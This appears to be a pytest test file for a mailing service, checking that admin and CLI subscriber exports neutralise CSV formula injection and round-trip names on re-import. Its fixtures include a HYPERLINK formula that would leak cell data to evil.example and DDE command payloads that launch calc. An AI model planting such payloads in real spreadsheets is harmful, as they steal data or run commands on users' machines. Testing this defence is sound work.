"""CSV injection (issue 9, item 8): no cell the service writes can start a formula, and
an exported file imported again gives the names back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import delete, select

from mailer.csv_cells import neutralise, restore
from mailer.events import Event
from mailer.subscribers.csv_files import import_csv
from mailer.subscribers.models import Consent, Subscriber, Subscription
from tests.harness.admin import log_in, make_editors

# Domain code, views and commands in this thread only: each test is rolled back.
pytestmark = pytest.mark.rolled_back

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Klikk her")'
NAMES = {
    "a@example.no": HYPERLINK,
    "b@example.no": "+47 22 00 00 00",
    "c@example.no": "-2+3+cmd|' /C calc'!A0",
    "d@example.no": "@SUM(1+1)*cmd|' /C calc'!A0",
    "e@example.no": "'=already quoted",
    "=f@example.no": "Kari Nordmann",
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("Kåre", "Kåre"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_start_a_formula_get_a_quote_and_restore_undoes_it(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell
    # A second round trip changes nothing more.
    assert restore(neutralise(restore(neutralise(cell)))) == cell


def _sign_up_everyone(client) -> None:
    for email, name in NAMES.items():
        reply = client.post(
            "/api/v1/subscribers", json={"email": email, "name": name, "consent": True}
        )
        assert reply.status_code == 202, reply.get_json()


def _cells(text: str) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return {row["email"]: row for row in rows}


def _check_neutralised(text: str) -> None:
    rows = _cells(text)
    assert rows["a@example.no"]["name"] == "'" + HYPERLINK
    for email, name in NAMES.items():
        assert rows[neutralise(email)]["name"] == neutralise(name)
    # The address column too: '=f@…' is a valid address.
    assert "'=f@example.no" in rows
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_admin_and_cli_exports_neutralise_formulas(app, client, cli, session):
    _sign_up_everyone(client)
    log_in(client, make_editors(session)["admin"])
    admin_export = client.get("/admin/subscribers/export.csv")
    assert admin_export.status_code == 200
    _check_neutralised(admin_export.get_data(as_text=True))

    result = cli.invoke(args=["subscribers", "export"])
    assert result.exit_code == 0, result.output
    _check_neutralised(result.output)


def test_an_exported_file_imports_back_to_the_same_names(app, client, cli, session):
    _sign_up_everyone(client)
    first = cli.invoke(args=["subscribers", "export"]).output
    session.execute(delete(Consent))
    session.execute(delete(Event))
    session.execute(delete(Subscription))
    session.execute(delete(Subscriber))
    session.commit()

    report = import_csv(session, first, (), already_consented=True, source="round trip")
    session.commit()
    assert report.imported == len(NAMES), report.errors
    stored = dict(session.execute(select(Subscriber.email, Subscriber.name)).all())
    assert stored == NAMES
    second = cli.invoke(args=["subscribers", "export"]).output
    assert [r["name"] for r in _cells(second).values()] == [
        r["name"] for r in _cells(first).values()
    ]
